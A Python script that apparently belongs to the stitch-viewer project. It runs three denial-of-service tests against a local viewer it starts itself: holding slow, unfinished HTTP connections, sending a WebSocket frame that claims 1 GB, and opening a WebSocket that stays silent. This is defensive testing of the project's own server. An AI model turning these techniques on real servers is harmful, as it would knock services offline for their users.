#!/usr/bin/env python3
"""Attacks on stitch-viewer's web server from outside, each against a viewer this script starts
(docs/security.md, "The viewer's web page"):

  slow      holds N connections whose request never ends, then times the operator's GET /
  bigframe  opens a page's WebSocket and sends one frame claiming 1 GB; reports how much of it the
            viewer read and its peak memory
  deadpage  opens a page's WebSocket that never reads nor answers a ping; says whether the viewer
            closed it after 70 s

Example: tools/security/viewer-attacks.py build/bin/stitch-viewer slow --connections 230
"""
import argparse
import os
import signal
import socket
import struct
import subprocess
import sys
import time


def start_viewer(binary, port):
    viewer = subprocess.Popen([binary, "--port", str(port), "--lcm-url", "memq://"],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    for _ in range(50):
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return viewer
        except OSError:
            time.sleep(0.1)
    viewer.kill()
    sys.exit("the viewer did not start listening on port %d" % port)


def peak_memory_mb(pid):
    with open("/proc/%d/status" % pid) as status:
        for line in status:
            if line.startswith("VmHWM"):
                return int(line.split()[1]) // 1024
    return -1


def open_page(port):
    page = socket.create_connection(("127.0.0.1", port))
    page.sendall(("GET /live HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                  "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
                  "Origin: http://127.0.0.1:%d\r\n\r\n" % (port, port)).encode())
    time.sleep(0.5)
    return page


def slow(port, viewer, connections):
    held = []
    for _ in range(connections):
        c = socket.create_connection(("127.0.0.1", port))
        c.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        held.append(c)
    start = time.time()
    try:
        operator = socket.create_connection(("127.0.0.1", port), timeout=30)
        operator.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        answer = operator.recv(64).split(b"\r\n")[0].decode() or "closed"
    except OSError as e:
        answer = "no answer (%s)" % e
    print("%d slow connections: the operator's page: %s after %.2f s" % (connections, answer, time.time() - start))


def bigframe(port, viewer):
    before = peak_memory_mb(viewer.pid)
    page = open_page(port)
    page.sendall(b"\x82\xff" + struct.pack(">Q", 1 << 30) + b"\x12\x34\x56\x78")
    chunk, sent = b"x" * (1 << 20), 0
    try:
        while sent < 300 << 20:
            page.sendall(chunk)
            sent += len(chunk)
    except OSError:
        pass
    time.sleep(1)
    print("a frame claiming 1 GB: %d MB sent before the viewer closed it (300: never); viewer peak memory %d -> %d MB"
          % (sent >> 20, before, peak_memory_mb(viewer.pid)))


def deadpage(port, viewer):
    page = open_page(port)
    start = time.time()
    time.sleep(70)
    page.settimeout(1)
    closed = False
    deadline = time.time() + 5  # what was pushed meanwhile, then the end if it was closed
    try:
        while time.time() < deadline:
            if not page.recv(1 << 20):
                closed = True
                break
    except OSError:
        pass
    print("a page silent for %.0f s: %s" % (time.time() - start, "closed by the viewer" if closed else "still open"))


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("viewer", help="the stitch-viewer program (e.g. build/bin/stitch-viewer)")
    parser.add_argument("attack", choices=["slow", "bigframe", "deadpage"])
    parser.add_argument("--port", type=int, default=18790, help="TCP port for the viewer (default 18790)")
    parser.add_argument("--connections", type=int, default=230, help="slow: connections held (default 230)")
    args = parser.parse_args()
    viewer = start_viewer(os.path.abspath(args.viewer), args.port)
    try:
        if args.attack == "slow":
            slow(args.port, viewer, args.connections)
        elif args.attack == "bigframe":
            bigframe(args.port, viewer)
        else:
            deadpage(args.port, viewer)
    finally:
        viewer.send_signal(signal.SIGTERM)
        try:
            viewer.wait(timeout=10)
        except subprocess.TimeoutExpired:
            print("the viewer did not stop within 10 s of SIGTERM: killed")
            viewer.kill()
            viewer.wait()


if __name__ == "__main__":
    main()
